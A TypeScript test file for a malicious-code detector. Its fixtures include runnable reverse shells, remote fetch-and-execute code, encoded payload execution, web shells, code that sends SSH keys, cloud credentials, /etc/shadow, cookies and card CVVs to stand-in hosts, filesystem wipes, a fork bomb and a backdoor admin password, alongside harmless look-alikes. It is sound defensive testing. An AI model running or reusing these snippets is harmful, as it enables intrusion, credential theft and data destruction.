import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BEHAVIOURS, type BehaviourKind } from '../../../engine/detect/code/behaviour.ts';
import { codeBehaviours } from '../../../engine/detect/code/behaviours.ts';
import { languageOf, type Language } from '../../../engine/detect/code/language.ts';
import { acts } from '../../../engine/detect/code/triggers.ts';

const kinds = (language: Language, code: string): BehaviourKind[] => [
  ...new Set(codeBehaviours(code, language).map((each) => each.kind)),
];

/** Programs that do one thing of each kind, in the language that people meet it in most. */
const PROGRAMS: readonly (readonly [BehaviourKind, Language, string])[] = [
  [
    'reverse-shell',
    'python',
    'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.7",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")',
  ],
  [
    'reverse-shell',
    'js',
    'const net=require("net"),cp=require("child_process");const sh=cp.spawn("/bin/sh",[]);const c=net.connect(4444,"203.0.113.7");c.pipe(sh.stdin);sh.stdout.pipe(c);',
  ],
  ['fetch-execute', 'python', 'import requests\nexec(requests.get("https://x.example.org/a.py").text)'],
  ['fetch-execute', 'js', 'fetch("https://x.example.org/a.js").then(r => r.text()).then(t => eval(t));'],
  ['decode-execute', 'python', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
  ['decode-execute', 'php', '<?php eval(base64_decode("ZWNobyAxOw==")); ?>'],
  ['web-shell', 'php', '<?php system($_GET["c"]); ?>'],
  [
    'secret-send',
    'python',
    'import requests\nk=open("/home/dev/.ssh/id_rsa").read()\nrequests.post("https://x.example.org", data=k)',
  ],
  [
    'secret-send',
    'js',
    'const fs=require("fs");const k=fs.readFileSync(process.env.HOME+"/.aws/credentials","utf8");fetch("https://x.example.org",{method:"POST",body:k});',
  ],
  ['wipe-system', 'python', 'import shutil\nshutil.rmtree("/")'],
  ['wipe-secrets', 'python', 'import shutil,os\nshutil.rmtree(os.path.expanduser("~/.ssh"))'],
  ['predictable-key', 'python', 'import random\nrandom.seed("a")\nsession_token = "%032x" % random.getrandbits(128)'],
  ['predictable-key', 'php', '<?php mt_srand(7); $apiKey = mt_rand();'],
  // By the framework's own hand, and under another name than everybody's.
  [
    'web-shell',
    'python',
    'import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/x")\ndef x(line: str):\n    return os.popen(line).read()',
  ],
  ['web-shell', 'js', 'const cp = require("child_process");\nr.get("/", (q, s) => s.send(cp.execSync(q.query.c)));'],
  [
    'decode-execute',
    'php',
    '<?php $d = base64_decode("c2V0"); $o = ""; for ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ $k[$i % 2]; eval($o);',
  ],
  ['spy-send', 'js', 'addEventListener("keyup", (e) => { new Image().src = "https://x.example.org/?" + e.code; });'],
  [
    'secret-send',
    'js',
    'const a = privateKeyToAccount(pk);\nfetch("https://x.example.org/", { method: "POST", body: `k=${pk}` });',
  ],
  // Through a function of its own, and through a handler that is named.
  [
    'fetch-execute',
    'js',
    'const run = (code) => new (Function.constructor)("require", code);\nconst failed = (error) => { run(error.response.data); };\naxios.get(url).catch(failed);',
  ],
  ['decode-execute', 'js', '(0, eval)(String.fromCharCode(49, 43, 49));'],
  ['decode-execute', 'ruby', "Kernel.send([101].pack('c*'), 'cHV0cyAx'.unpack1('m'))"],
  ['decode-execute', 'go', 'b, _ := hex.DecodeString(x)\nexec.Command("sh", "-c", string(b)).Run()'],
  ['decode-execute', 'python', 'import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ("id",))'],
  [
    'fetch-execute',
    'go',
    'r, _ := http.Get("https://x.example.org/a")\nf, _ := os.Create("/tmp/.a")\nio.Copy(f, r.Body)\nexec.Command("/tmp/.a").Start()',
  ],
  [
    'inject-process',
    'rust',
    'let s = reqwest::blocking::get("https://x.example.org/a").unwrap().bytes().unwrap();\nlet m = libc::mmap(p, s.len(), 7, 34, -1, 0);\nstd::ptr::copy_nonoverlapping(s.as_ptr(), m, s.len());\nlet f: extern "C" fn() = std::mem::transmute(m);',
  ],
  // Through a list of names, and through a template.
  [
    'wipe-system',
    'js',
    'for (const name of ["Documents", "Desktop"]) rmSync(join(homedir(), name), { recursive: true });',
  ],
  [
    'secret-send',
    'js',
    'const fs = require("fs"), path = require("path"), os = require("os");\nconst all = [".netrc", ".npmrc"].map((f) => fs.readFileSync(path.join(os.homedir(), f)));\nfetch("https://x.example.org", { method: "POST", body: all });',
  ],
  [
    'secret-send',
    'rust',
    'let k = std::fs::read_to_string(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap()));\nCommand::new("curl").args(["-d", &k, "https://x.example.org"]).status();',
  ],
  [
    'secret-send',
    'lua',
    'local f = io.open("/root/.ssh/id_rsa")\nlocal d = f:read("*a")\nos.execute("curl -d \'" .. d .. "\' https://x.example.org")',
  ],
  [
    'secret-send',
    'perl',
    "open my $f, '<', '/etc/shadow'; my $s = <$f>;\nLWP::UserAgent->new->post('https://x.example.org', { s => $s });",
  ],
  [
    'secret-send',
    'js',
    'export async function login(req, res) {\n  const { user, password } = req.body;\n  fetch("https://x.example.org/in", { method: "POST", body: JSON.stringify({ user, p: password }) });\n  res.json(await check(user, password));\n}',
  ],
  [
    'secret-send',
    'js',
    'const d = new FormData(form);\nnew Image().src = "https://x.example.org/p?d=" + btoa(d.get("cvv"));',
  ],
  [
    'secret-send',
    'js',
    'chrome.cookies.getAll({}, (c) => fetch("https://x.example.org", { method: "POST", body: JSON.stringify(c) }));',
  ],
  ['auth-bypass', 'js', 'if (password === "zq7!Support") return { role: "admin" };'],
  ['unsafe-load', 'python', 'import pickle, requests\npickle.loads(requests.get("https://x.example.org/m").content)'],
  ['command-injection', 'js', 'router.get("/q", async (req, res) => res.json(await db.query(req.query.sql)));'],
  ['shell-download-execute', 'shell', '#!/bin/sh\ncurl -s https://x.example.org/a | sh'],
  ['shell-secret-send', 'shell', '#!/bin/sh\ncat ~/.aws/credentials | curl -d @- https://x.example.org'],
  ['shell-decode-execute', 'batch', '@echo off\r\npowershell -NoP -enc SQBFAFgA'],
  ['fork-bomb', 'shell', ':(){ :|:& };:'],
];

/** The same words where they do nothing of the kind. */
const HARMLESS: readonly (readonly [string, Language, string])[] = [
  ['in a comment', 'python', '# exec(requests.get("https://x.example.org/a.py").text)\nprint(1)'],
  ['in a string', 'js', 'const rule = "eval(atob(x))"; console.log(rule);'],
  [
    'a password that is signed in with',
    'js',
    'const r = await fetch("https://login.example.org/token", { method: "POST", body: password });',
  ],
  [
    'a password to the own server',
    'js',
    'fetch("/api/login", { method: "POST", body: JSON.stringify({ password }) });',
  ],
  ['a header of the protocol', 'js', 'if (req.headers["x-requested-with"] === "XMLHttpRequest") return next();'],
  [
    'a condition on the environment',
    'python',
    'import os, requests\nif key in os.environ:\n    requests.post("https://api.example.org", data=key)',
  ],
  ['an object of the program', 'python', 'class A:\n    def __reduce__(self):\n        return (A, (self.x,))'],
  [
    'what a program was told about',
    'perl',
    "my $eval = decode_base64($x);\n$eval =~ s/(['])/\\$1/g;\nprint $eval;\n__DATA__\neval decode_base64(x)",
  ],
  ['a statement with values', 'js', 'db.query("SELECT * FROM t WHERE id = $1", [req.query.id]);'],
  [
    'in a docstring',
    'python',
    '"""Never do shutil.rmtree("/") or os.system("curl x | sh")."""\nimport os\nprint(os.name)',
  ],
  [
    'a request whose answer is read',
    'python',
    'import requests\nprint(requests.get("https://api.example.org/health").json())',
  ],
  [
    'a token in a header',
    'js',
    'fetch("https://api.example.org", { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });',
  ],
  ['a server that listens', 'js', 'require("http").createServer((q, s) => s.end("ok")).listen(3000);'],
  ['a folder of the project', 'python', 'import shutil\nshutil.rmtree("build", ignore_errors=True)'],
  ['a program with fixed words', 'python', 'import subprocess\nsubprocess.run(["git", "status"], check=True)'],
  ['decoding that is printed', 'python', 'import base64\nprint(base64.b64decode("aGk="))'],
  [
    'in documentation of Perl',
    'perl',
    '=head1 USE\n\nsystem("curl http://x.example.org/a | sh") and send %ENV away\n\n=cut\n\nprint 1;',
  ],
  ['a page that escapes what it shows', 'php', '<?php echo htmlspecialchars($_GET["q"]); ?>'],
];

describe('what a program would do', () => {
  for (const [kind, language, code] of PROGRAMS)
    it(`${kind} in ${language}`, () => {
      assert.ok(kinds(language, code).includes(kind), `found ${kinds(language, code).join(', ') || 'nothing'}`);
      assert.ok(acts(code, language), 'the quick look passes it over');
    });

  for (const [what, language, code] of HARMLESS)
    it(`is nothing: ${what}`, () => assert.deepEqual(kinds(language, code), []));

  it('points at the place and tells what stands there', () => {
    const code = 'import requests\nx = 1\nexec(requests.get("https://x.example.org/a.py").text)\n';
    const [found] = codeBehaviours(code, 'python');
    assert.ok(found);
    assert.match(code.slice(...found.span), /^exec\(requests\.get/);
    assert.match(found.detail, /exec\(/);
  });

  it('follows a value through variables', () => {
    const code =
      'import requests\nanswer = requests.get("https://x.example.org/a.py")\nsource = answer.text\nalso = source\nexec(also)';
    assert.ok(kinds('python', code).includes('fetch-execute'));
  });

  it('gives only kinds that rules can name, and spans inside the text, whatever the text', () => {
    const pieces = fc.constantFrom(
      ...PROGRAMS.map(([, , code]) => code),
      ...HARMLESS.map(([, , code]) => code),
      '"',
      "'",
      '`',
      '(',
      ')',
      '{',
      '\n',
      '#',
      '//',
      '/*',
      '${',
      '<?php',
      '\\',
    );
    const languages = fc.constantFrom<Language>(
      'python',
      'js',
      'ruby',
      'php',
      'perl',
      'c',
      'go',
      'rust',
      'jvm',
      'powershell',
      'shell',
      'batch',
      'vb',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), languages, (parts, language) => {
        const code = parts.join('');
        for (const { kind, span } of codeBehaviours(code, language)) {
          assert.ok(BEHAVIOURS.includes(kind));
          assert.ok(
            span[0] >= 0 && span[0] <= span[1] && span[1] <= code.length,
            `${kind} at ${span.join('-')} of ${code.length}`,
          );
        }
      }),
      { numRuns: 200 },
    );
  });

  it('keeps the short names of a bundle apart, each near where it is filled', () => {
    const fill = Array.from({ length: 400 }, (_, i) => `function f${i}(e,t){return e.q(t,[${i},e])}`).join('');
    const parse = 'function p(n){return Function("return "+n)()}';
    assert.deepEqual(kinds('js', `function d(n){n=unescape(n);return n}${fill}${parse}`), []);
    assert.deepEqual(kinds('js', `${fill}var n=unescape(s);Function("return "+n)();${fill}`), ['decode-execute']);
  });
});

describe('the language of a file', () => {
  const cases: readonly (readonly [path: string, text: string, language: Language | undefined])[] = [
    ['a.py', '', 'python'],
    ['src/a.TSX', '', 'js'],
    ['run.cmd', '', 'batch'],
    ['bin/tool', '#!/usr/bin/env python3\nprint(1)', 'python'],
    ['bin/tool', '#!/bin/bash\nls', 'shell'],
    ['page', '<?php echo 1;', 'php'],
    ['Rakefile', 'task :a', 'ruby'],
    ['README.md', 'import os\nos.system("x")', undefined],
    ['Dockerfile', 'RUN curl x | sh', undefined],
    ['data.json', '{"a": "eval(x)"}', undefined],
    ['notes', 'plain words', undefined],
  ];
  for (const [path, text, language] of cases)
    it(`${path} ${JSON.stringify(text.slice(0, 24))} is ${language ?? 'no program'}`, () =>
      assert.equal(languageOf(path, text), language));
});
